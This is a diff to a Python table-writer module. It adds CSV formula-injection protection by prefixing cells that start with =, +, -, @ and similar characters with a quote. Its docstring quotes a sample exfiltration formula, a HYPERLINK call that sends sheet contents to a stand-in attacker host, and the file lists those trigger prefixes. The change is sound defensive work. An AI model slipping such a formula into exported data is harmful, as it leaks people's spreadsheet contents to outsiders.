@@ -2,6 +2,12 @@
 
 Rows are written as they come, so output size never bounds memory. Lists and dicts stay nested in
 JSONL and become JSON strings in CSV and Parquet.
+
+A CSV file people open in a spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
+formula (``=HYPERLINK("http://evil.example/?"&A1, "…")`` sends the sheet away); crawled text can be
+anything. Tables for people (``for_people``, and ``spreadsheet_safe`` for other writers) get such a cell
+with a ``'`` before it, which spreadsheets show as text. Tables the model trains on keep their text as it
+is: the quote would become part of the text.
 """
 
 from __future__ import annotations
@@ -16,6 +22,16 @@ from typing import Any
 FORMATS = (".jsonl", ".csv", ".parquet")
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """A text cell a spreadsheet would run as a formula, as text (a ``'`` before it); others unchanged."""
+    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def _flat(value: Any) -> Any:
     if isinstance(value, list | dict | tuple):
         return json.dumps(value, ensure_ascii=False, default=str)
@@ -25,8 +41,12 @@ def _flat(value: Any) -> Any:
 class TableWriter:
     """Write rows with fixed columns to one file; missing columns are empty, extra ones are an error."""
 
-    def __init__(self, path: Path | str, columns: Sequence[str], parquet_batch: int = 2000):
+    def __init__(
+        self, path: Path | str, columns: Sequence[str], parquet_batch: int = 2000, *, for_people: bool = False
+    ):
+        """``for_people``: a CSV file's text cells are ``spreadsheet_safe`` (never for training tables)."""
         self.path = Path(path)
+        self.for_people = for_people
         self.columns = list(columns)
         self.kind = self.path.suffix.lower()
         if self.kind not in FORMATS:
@@ -55,7 +75,10 @@ class TableWriter:
                 full = {c: row.get(c) for c in self.columns}
                 self._handle.write(json.dumps(full, ensure_ascii=False, default=str) + "\n")
             elif self.kind == ".csv":
-                self._csv.writerow({c: _flat(row.get(c)) for c in self.columns})
+                cells = {c: _flat(row.get(c)) for c in self.columns}
+                if self.for_people:
+                    cells = {c: spreadsheet_safe(v) for c, v in cells.items()}
+                self._csv.writerow(cells)
             else:
                 self._pending.append({c: _flat(row.get(c)) for c in self.columns})
                 if len(self._pending) >= self._parquet_batch:
